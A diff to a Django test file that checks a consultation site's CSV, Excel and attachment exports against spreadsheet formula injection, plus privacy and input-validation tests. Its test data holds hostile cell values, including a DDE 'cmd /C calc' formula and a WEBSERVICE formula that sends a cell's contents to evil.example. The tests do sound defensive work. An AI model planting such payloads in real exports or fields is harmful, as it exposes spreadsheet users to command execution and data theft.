@@ -15,6 +15,7 @@ from discussions.models import Comment
 from hub.models import StakeholderGroup
 from tests.discussions.secretariat_data import (
     KnownSet,
+    make_export_attachment,
     make_comments,
     make_export_comment,
     make_export_discussion,
@@ -235,7 +236,9 @@ def test_neutralise_prefixes_every_formula_start_and_leaves_the_rest():
     for start in ("=", "+", "-", "@", "\t", "\r"):
         assert neutralise(f"{start}x") == f"'{start}x"
     assert neutralise("plain") == "plain"
-    assert neutralise(" =not at start") == " =not at start"
+    assert neutralise("a =not at start") == "a =not at start"
+    # Blanks before the formula do not hide it (hub/spreadsheets.py; tests/hub/test_spreadsheets.py for the rest).
+    assert neutralise(" =after a space") == "' =after a space"
     assert neutralise(42) == 42
     assert neutralise("") == ""
 
@@ -370,3 +373,229 @@ def test_the_csv_export_takes_a_fixed_number_of_queries(secretariat_client, djan
         response = secretariat_client.get(reverse("discussions:secretariat-export-csv"))
         _, rows, _ = read_csv(response)
     assert len(rows) == size
+
+
+# --- Hostile cells (issue 9): a formula hidden behind a control character, a blank or a separator -----------------
+
+HOSTILE = {
+    "control": "\x01=HYPERLINK(\"http://evil.example\",\"Click\")",
+    "tab": "\t=1+1",
+    "space": " =cmd|' /C calc'!A0",
+    "separator": "Agreed;=WEBSERVICE(\"http://evil.example/?\"&A1)",
+}
+
+
+def _hostile_comment(discussion, value: str) -> Comment:
+    comment = make_export_comment(discussion, body="<p>x</p>")
+    # Written straight to the columns: the snapshot of a profile, or an imported comment, can hold anything.
+    Comment.objects.filter(pk=comment.pk).update(author_name=value, author_organisation=value, body_text=value)
+    return comment
+
+
+def _hostile_interest(group, value: str):
+    from workplan.models import InterestExpression
+
+    interest = InterestExpression.objects.create(working_group=group, organisation=make_user().profile.organisation,
+                                                 message="x", role=InterestExpression.Role.MEMBER)
+    InterestExpression.objects.filter(pk=interest.pk).update(message=value)
+    return interest
+
+
+def _starts_no_formula(text: str) -> None:
+    from hub.spreadsheets import is_formula
+
+    assert not is_formula(text), repr(text)
+
+
+@pytest.mark.parametrize("kind", HOSTILE)
+def test_no_hidden_formula_reaches_the_csv_in_any_cell_however_the_line_is_split(secretariat_client, kind):
+    value = HOSTILE[kind]
+    discussion = make_export_discussion()
+    comment = _hostile_comment(discussion, value)
+    _, rows, _ = read_csv(secretariat_client.get(reverse("discussions:secretariat-export-csv")))
+    (row,) = rows
+    for column in ("Author (as shown)", "Personal name", "Organisation", "Comment (plain text)"):
+        cell = row[column]
+        assert cell.startswith("'") or kind == "separator", (column, cell)
+        # Read by a program that splits on another separator than ours, no piece starts a formula either.
+        for separator in ";,\t":
+            for piece in cell.split(separator):
+                _starts_no_formula(piece)
+    assert row["Comment id"] == str(comment.pk)
+
+
+@pytest.mark.parametrize("kind", HOSTILE)
+def test_no_cell_of_the_excel_workbook_is_a_formula_and_hidden_ones_are_neutralised(secretariat_client, tmp_path,
+                                                                                    kind):
+    value = HOSTILE[kind]
+    discussion = make_export_discussion()
+    _hostile_comment(discussion, value)
+    _hostile_interest(make_working_group(workplan=discussion.workplan), value)
+    response = secretariat_client.get(reverse("discussions:secretariat-export-xlsx"))
+    path = tmp_path / "f.xlsx"
+    path.write_bytes(b"".join(response.streaming_content))
+    workbook = load_workbook(path)
+    texts = []
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    texts.append(cell.value)
+                    _starts_no_formula(cell.value)
+    comments = workbook["All comments"]
+    header = [c.value for c in comments[1]]
+    row = {h: c.value for h, c in zip(header, comments[2])}
+    expected = "'" + value.lstrip("\x01") if kind != "separator" else value
+    for column in ("Author (as shown)", "Personal name", "Organisation", "Comment (plain text)"):
+        assert row[column] == expected, column
+    interest = list(workbook["Interest in working groups"].iter_rows(values_only=True))
+    assert interest[1][6] == expected
+
+
+
+def test_the_excel_writer_stores_text_as_text_even_if_nothing_neutralised_it(tmp_path):
+    """A second guard, independent of neutralise(): text that openpyxl would store as a formula or an error is
+    written with the string type."""
+    from openpyxl import Workbook
+    from openpyxl.styles import Alignment, Font, PatternFill
+
+    from discussions.export import Column, _Sheet
+
+    styles = {"bold": Font(bold=True), "fill": PatternFill("solid", fgColor="DDE7F3"), "header": Alignment(),
+              "wrap": Alignment(wrap_text=True)}
+    workbook = Workbook(write_only=True)
+    sheet = _Sheet(workbook, "S", (Column("a", "A", 10), Column("b", "B", 10, True), Column("c", "C", 10)), styles)
+    sheet.append(["=1+1", "=2+2", "#N/A"])
+    sheet.append(["=3+3", 5, "=4+4"])
+    sheet.append(["plain", "text", 7])
+    path = tmp_path / "s.xlsx"
+    workbook.save(path)
+    rows = list(load_workbook(path)["S"].iter_rows(min_row=2))
+    assert [[c.value for c in row] for row in rows] == [["=1+1", "=2+2", "#N/A"], ["=3+3", 5, "=4+4"],
+                                                        ["plain", "text", 7]]
+    assert [[c.data_type for c in row] for row in rows] == [["s", "s", "s"], ["s", "n", "s"], ["s", "s", "n"]]
+
+def test_the_attachments_index_neutralises_hidden_formulas_too(secretariat_client):
+    discussion = make_export_discussion()
+    comment = _hostile_comment(discussion, HOSTILE["control"])
+    make_export_attachment(comment, name="\x01=cmd;=1.pdf")
+    response = secretariat_client.get(reverse("discussions:secretariat-export-attachments"))
+    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
+    index = list(csv.reader(io.StringIO(archive.read("attachments.csv").decode("utf-8-sig"))))
+    assert index[1][1] == "'=cmd;'=1.pdf"
+    assert index[1][4] == "'=HYPERLINK(\"http://evil.example\",\"Click\")"
+
+
+# --- The JSON bundle on the export page: the page's selection, no e-mail addresses -----------------------------------
+
+
+def _bundle(response) -> dict:
+    import json
+
+    assert response.status_code == 200, response
+    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
+    return json.loads(archive.read("consultation.json"))
+
+
+def test_the_pages_json_bundle_holds_no_email_address_of_anyone(known, secretariat_client):
+    author = make_user(email="leila.private@example.org")
+    Comment.objects.filter(pk=known.arabic.pk).update(author=author)
+    known.discussion.moderators.add(make_user(email="mod.private@example.org"))
+    response = secretariat_client.get(reverse("discussions:secretariat-export-bundle"),
+                                      {"discussion": known.discussion.pk, "status": "all"})
+    raw = b"".join(response.streaming_content)
+    archive = zipfile.ZipFile(io.BytesIO(raw))
+    text = archive.read("consultation.json").decode()
+    assert "@example.org" not in text and '"email"' not in text
+    assert "leila.private" not in text and "mod.private" not in text
+
+
+def test_the_pages_json_bundle_holds_only_the_comments_the_filters_select(known, secretariat_client):
+    url = reverse("discussions:secretariat-export-bundle")
+    data = _bundle(secretariat_client.get(url, {"discussion": known.discussion.pk}))
+    # Published only, as the page's default says: the declined comment is not in it.
+    assert sorted(c["id"] for c in data["comments"]) == sorted(f"c{c.pk}" for c in known.published)
+    assert {c["status"] for c in data["comments"]} == {"published"}
+
+    data = _bundle(secretariat_client.get(url, {"discussion": known.discussion.pk, "status": "declined"}))
+    assert [c["id"] for c in data["comments"]] == [f"c{known.declined.pk}"]
+
+    data = _bundle(secretariat_client.get(url, {"discussion": known.discussion.pk, "priority": known.np1.pk}))
+    assert [c["id"] for c in data["comments"]] == [f"c{known.chinese.pk}", f"c{known.quoted.pk}"]
+    # Only the selected comments' attachments.
+    data = _bundle(secretariat_client.get(url, {"discussion": known.discussion.pk, "question": known.q2.pk}))
+    assert [c["id"] for c in data["comments"]] == [f"c{known.chinese.pk}"]
+    assert all(not c["attachments"] for c in data["comments"])
+
+
+def test_a_reply_whose_parent_is_filtered_out_is_listed_on_its_question_and_the_bundle_imports(
+        known, secretariat_client, tmp_path):
+    from discussions.interchange import check_consultation_bundle
+
+    # The formula comment replies to the quoted one, which NP1 selects and the stakeholder filter leaves out.
+    response = secretariat_client.get(reverse("discussions:secretariat-export-bundle"), {
+        "discussion": known.discussion.pk, "stakeholder_group": StakeholderGroup.MEMBER_STATE})
+    raw = b"".join(response.streaming_content)
+    data = _bundle_from(raw)
+    (reply,) = data["comments"]
+    assert reply["id"] == f"c{known.formula.pk}"
+    assert (reply["parent"], reply["question"]) == (None, f"q{known.q1.pk}")
+    path = tmp_path / "b.zip"
+    path.write_bytes(raw)
+    check_consultation_bundle(path)  # the format's rules hold: it raises otherwise
+
+
+def _bundle_from(raw: bytes) -> dict:
+    import json
+
+    return json.loads(zipfile.ZipFile(io.BytesIO(raw)).read("consultation.json"))
+
+
+def test_the_export_page_says_what_the_json_bundle_holds(known, secretariat_client):
+    content = secretariat_client.get(reverse("discussions:secretariat-export"),
+                                     {"discussion": known.discussion.pk}).content.decode()
+    assert "the comments matching these filters" in content
+    assert "It holds no e-mail addresses." in content
+
+
+# --- Very large numbers in the filters (issue 9): the filter is refused, never a 500 ---------------------------------
+
+HUGE = "9" * 30
+
+
+@pytest.mark.parametrize("field", ["discussion", "priority", "question", "working_group"])
+def test_a_huge_number_in_a_filter_is_refused_with_a_clear_answer_not_a_server_error(known, secretariat_client,
+                                                                                     field):
+    secretariat_client.raise_request_exception = False
+    count = secretariat_client.get(reverse("discussions:secretariat-export-count"), {field: HUGE})
+    assert count.status_code == 400
+    assert field in count.json()["errors"]
+    page = secretariat_client.get(reverse("discussions:secretariat-export"), {field: HUGE})
+    assert page.status_code == 200
+    assert "Correct the filters to see how many comments match." in page.content.decode()
+    download = secretariat_client.get(reverse("discussions:secretariat-export-csv"), {field: HUGE})
+    assert download.status_code == 302
+
+
+@pytest.mark.parametrize("value", [HUGE, "-" + HUGE, "1e400", "0", "abc"])
+def test_a_huge_or_odd_priority_on_the_response_table_shows_every_comment(known, secretariat_client, value):
+    secretariat_client.raise_request_exception = False
+    response = secretariat_client.get(reverse("discussions:secretariat-responses",
+                                              kwargs={"slug": known.discussion.slug}), {"priority": value})
+    assert response.status_code == 200
+    assert f"response-{known.arabic.pk}" in response.content.decode()
+
+
+# --- A comment known only by its affiliation badge (issue 9) ---------------------------------------------------------
+
+
+def test_a_comment_known_only_by_its_badge_is_attributed_to_the_badge_in_the_exports(secretariat_client, tmp_path):
+    discussion = make_export_discussion()
+    parent = make_export_comment(discussion, author_name="", author_organisation="", author_badge="UN Network",
+                                 show_personal_name=False)
+    make_export_comment(discussion, parent=parent, author_name="Replier")
+    _, rows, _ = read_csv(secretariat_client.get(reverse("discussions:secretariat-export-csv")))
+    assert rows[0]["Author (as shown)"] == "UN Network" and rows[0]["Badge"] == "UN Network"
+    assert rows[0]["Personal name"] == "" and rows[0]["Organisation"] == ""
+    assert rows[1]["In reply to"] == "UN Network"
